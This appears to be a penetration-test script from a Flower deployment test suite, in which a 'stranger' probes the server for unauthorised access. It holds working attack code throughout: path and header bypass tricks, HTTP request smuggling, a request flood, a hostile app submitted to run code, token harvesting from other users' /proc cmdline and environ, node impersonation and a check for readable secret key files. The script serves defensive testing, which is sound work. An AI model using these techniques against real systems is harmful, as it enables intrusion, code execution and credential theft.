"""A stranger who tries to get in: `python -m tests.deploy.flower.stranger PORT --loot FILE --folder DEPLOYMENT`.

Run as anybody: from the network at the port that nodes use, or as another user of the server's machine at the port
on loopback. Prints one JSON object: what each attempt was answered, and what was won. It has no key and no token.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import socket
import ssl
import tempfile
from functools import cache
from pathlib import Path
from typing import Any

import httpx
from flwr.cli.build import build_fab_from_disk
from flwr.proto.control_pb2 import StartRunRequest
from flwr.proto.fab_pb2 import Fab
from flwr.proto.fleet_pb2 import ActivateNodeRequest, RegisterNodeFleetRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest, AcquireTaskResponse
from flwr.supercore.constant import TASK_TOKEN_HEADER, TaskType
from flwr.supercore.primitives.asymmetric import generate_key_pairs, public_key_to_bytes
from flwr.supercore.protobuf.translation import PROTOBUF_REQUEST_TYPES
from flwr.supercore.runtime_version_compatibility import RuntimeVersionMetadata
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

PROTOBUF = "application/protobuf"
TRICKS = (
    "//v1/control/start-run",
    "/v1/control//start-run",
    "/v1/control/start-run/",
    "/v1/control/start-run;x",
    "/V1/CONTROL/START-RUN",
    "/v1/fleet/../control/start-run",
    "/v1/fleet/%2e%2e/control/start-run",
    "/v1/fleet/..%2fcontrol/start-run",
    "/v1/fleet%2f..%2fcontrol/start-run",
    "/v1/fleet/activate-node/../../control/start-run",
    "/v1/control/start-run%00/v1/fleet/activate-node",
    "/v1/%63ontrol/start-run",
    "https://127.0.0.1:{other}/v1/control/start-run",
    "/health/../v1/control/start-run",
)
HEADERS = (
    {"host": "x/v1/fleet/activate-node?"},
    {"host": "127.0.0.1:{other}"},
    {"x-forwarded-for": "127.0.0.1", "x-forwarded-port": "{other}", "forwarded": "for=127.0.0.1"},
    {"x-original-url": "/v1/control/start-run", "x-rewrite-url": "/v1/control/start-run"},
    {"x-http-method-override": "POST"},
    {"authorization": "Bearer "},
    {"authorization": "Bearer None"},
    {"authorization": "Basic Og=="},
    {"authorization": "bearer null", "flwr-oidc-access-token": "null"},
    {"upgrade": "websocket", "connection": "upgrade", "sec-websocket-key": "x", "sec-websocket-version": "13"},
)
HOSTILE = """
import pathlib, time
from flwr.serverapp import ServerApp
app = ServerApp()
@app.main()
def main(grid, context):
    pathlib.Path(context.run_config["loot"]).write_text("code of a stranger ran here")
    time.sleep(5)
"""
PROJECT = """[project]
name = "stranger"
version = "1.0.0"
license = "Apache-2.0"
dependencies = []
[tool.flwr.app]
publisher = "stranger"
fab-include = ["stranger/*.py"]
[tool.flwr.app.components]
serverapp = "stranger.server_app:app"
clientapp = "stranger.server_app:app"
[tool.flwr.app.config]
loot = "{loot}"
"""


class Stranger:
    """At one port. `other` is the port that he would rather be at."""

    def __init__(self, port: int, other: int) -> None:
        self.port, self.other = port, other
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.http = httpx.Client(verify=self.context, base_url=f"https://127.0.0.1:{port}", timeout=20)

    def everything(self) -> dict[str, int]:
        """Every call that this Flower knows, with an empty message, and the pages of its web server."""
        found = {
            path: self.http.request(method, path, headers=_headers(), content=b"").status_code
            for method, path in PROTOBUF_REQUEST_TYPES
        }
        for path in ("/", "/docs", "/openapi.json", "/docs/oauth2-redirect", "/v1/runtime/responses"):
            found[f"GET {path}"] = self.http.get(path).status_code
            found[f"POST {path}"] = self.http.post(path).status_code
        return found

    def start_run(self, loot: str, **headers: str) -> int:
        """A run whose server writes a file."""
        return self.http.post(
            "/v1/control/start-run", headers={**_headers(), **headers}, content=hostile_run(loot)
        ).status_code

    def acquire_task(self) -> str:
        """The token of a task that waits, or nothing."""
        body = AcquireTaskRequest(supported_task_types=list(TaskType)).SerializeToString()
        answer = self.http.post("/v1/runtime/acquire-task", headers=_headers(), content=body)
        if answer.status_code != 200:
            return ""
        found = AcquireTaskResponse()
        found.ParseFromString(answer.content)
        return str(found.token)

    def tricks(self, loot: str) -> dict[str, int]:
        """Paths and headers that mean one thing to a gate and another behind it; bytes are sent as they stand."""
        body = hostile_run(loot)
        found = {}
        for target in TRICKS:
            found[target] = self._raw(target.format(other=self.other), {}, body)
        for extra in HEADERS:
            headers = {name: value.format(other=self.other) for name, value in extra.items()}
            found[json.dumps(extra)] = self._raw("/v1/control/start-run", headers, body)
        return found | {"smuggled": self._smuggle(body), "two tokens": self._two_tokens(body)}

    def _raw(self, target: str, extra: dict[str, str], body: bytes) -> int:
        headers = {"host": f"127.0.0.1:{self.port}", **_headers(), "content-length": str(len(body)), **extra}
        head = f"POST {target} HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in headers.items())
        return self._send(head.encode() + b"\r\n" + body)

    def _smuggle(self, body: bytes) -> int:
        """A second request in the body of one that is let through: its own answer, or the worst of both."""
        inner = f"POST /v1/control/start-run HTTP/1.1\r\nhost: x\r\ncontent-type: {PROTOBUF}\r\n"
        hidden = inner.encode() + f"content-length: {len(body)}\r\n\r\n".encode() + body
        outer = "POST /v1/fleet/activate-node HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\n"
        outer += f"transfer-encoding: chunked\r\ncontent-type: {PROTOBUF}\r\n\r\n0\r\n\r\n"
        return self._send(outer.encode() + hidden)

    def _two_tokens(self, body: bytes) -> int:
        head = f"POST /v1/control/start-run HTTP/1.1\r\nhost: x\r\ncontent-type: {PROTOBUF}\r\n"
        head += f"authorization: Bearer a\r\nauthorization: Bearer b\r\ncontent-length: {len(body)}\r\n\r\n"
        return self._send(head.encode() + body)

    def _send(self, content: bytes) -> int:
        """The best status of all answers on the connection: 200 is what he wants."""
        heard = b""
        try:
            with (
                socket.create_connection(("127.0.0.1", self.port), 20) as link,
                self.context.wrap_socket(link) as safe,
            ):
                safe.settimeout(2)
                safe.sendall(content)
                while part := safe.recv(65536):
                    heard += part
        except OSError:
            pass
        codes = [int(line.split()[1]) for line in heard.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
        return min((code for code in codes if code != 100), default=0)

    def flood(self) -> int:
        """More than a node ever sends, to a call that nodes may make: the answer before anything was sent."""
        head = f"POST /v1/fleet/push-object HTTP/1.1\r\nhost: x\r\ncontent-type: {PROTOBUF}\r\n"
        return self._send(f"{head}content-length: {2**34}\r\n\r\n".encode())

    def guess(self, words: list[str]) -> list[str]:
        """Of words that lie about (arguments of other users' processes), those that are the token of a task."""
        found = []
        for word in words:
            headers = {**_headers(), TASK_TOKEN_HEADER: word}
            if self.http.post("/v1/runtime/get-nodes", headers=headers, content=b"").status_code == 200:
                found.append(word)
        return found

    def as_a_node(self, public: bytes) -> dict[str, int]:
        """Activate a key of his own, and speak for a node whose public key he knows."""
        private, own = generate_key_pairs()
        shown = [NodeAuthHttpInterceptor(private, own)]
        client = FleetHttpClient(f"https://127.0.0.1:{self.port}", interceptors=shown, verify=self.context)
        mine = public_key_to_bytes(own)
        wanted = {
            "register": (client.RegisterNode, RegisterNodeFleetRequest(public_key=mine)),
            "activate": (client.ActivateNode, ActivateNodeRequest(public_key=mine, heartbeat_interval=30)),
            "another's": (client.ActivateNode, ActivateNodeRequest(public_key=public, heartbeat_interval=30)),
        }
        return {name: _status(*call) for name, call in wanted.items()}


def _status(call: Any, request: Any) -> int:
    try:
        call(request)
    except httpx.HTTPStatusError as error:
        return error.response.status_code
    return 200


def _headers() -> dict[str, str]:

    known = dict(RuntimeVersionMetadata.from_local_component("flwr").as_metadata())
    return {"content-type": PROTOBUF, "accept": PROTOBUF, **{k: str(v) for k, v in known.items()}}


@cache
def hostile_run(loot: str) -> bytes:
    """A request to start a run whose ServerApp writes the file `loot`."""

    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "stranger").mkdir()
        (Path(folder) / "stranger" / "__init__.py").write_text("")
        (Path(folder) / "stranger" / "server_app.py").write_text(HOSTILE)
        (Path(folder) / "pyproject.toml").write_text(PROJECT.format(loot=loot))
        content = bytes(build_fab_from_disk(Path(folder)))
    fab = Fab(hash_str=hashlib.sha256(content).hexdigest(), content=content)
    return bytes(StartRunRequest(fab=fab).SerializeToString())


def arguments_of_others() -> list[str]:
    """What any user reads of other users' processes: words long enough to be a secret."""
    found = set()
    for entry in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                words = (entry / name).read_bytes().replace(b"=", b"\0").split(b"\0")
            except OSError:
                continue
            found |= {word.decode(errors="replace") for word in words if 32 <= len(word) <= 1024}
    return sorted(word for word in found if re.fullmatch(r"[\w+=-]+", word, re.ASCII))


def readable(folder: Path) -> list[str]:
    """Files of a deployment that this user can read although they are secret."""
    secret = ("server.key", "control.token", "link.db", "link.db-wal", "link.db-shm")
    found = []
    for root, _, names in os.walk(folder):
        for name in names:
            path = Path(root) / name
            if (name in secret or path.with_name(f"{name}.pub").exists()) and os.access(path, os.R_OK):
                found.append(str(path))
    return found


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("--other", type=int, default=0)
    parser.add_argument("--loot", required=True)
    parser.add_argument("--folder", type=Path, required=True)
    parser.add_argument("--user", type=int, help="become this user first")
    given = parser.parse_args()
    me = Stranger(given.port, given.other)
    public = next(given.folder.glob("keys/*.pub")).read_bytes()
    hostile_run(given.loot)  # before: another user may not reach this interpreter's files
    if given.user is not None:
        os.setgroups([])
        os.setgid(given.user)
        os.setuid(given.user)
    won = {
        "user": os.geteuid(),
        "everything": me.everything(),
        "start run": me.start_run(given.loot),
        "tricks": me.tricks(given.loot),
        "flood": me.flood(),
        "task": me.acquire_task(),
        "guessed": me.guess(arguments_of_others()),
        "node": me.as_a_node(public),
        "readable": readable(given.folder),
    }
    print(json.dumps(won))


if __name__ == "__main__":
    main()
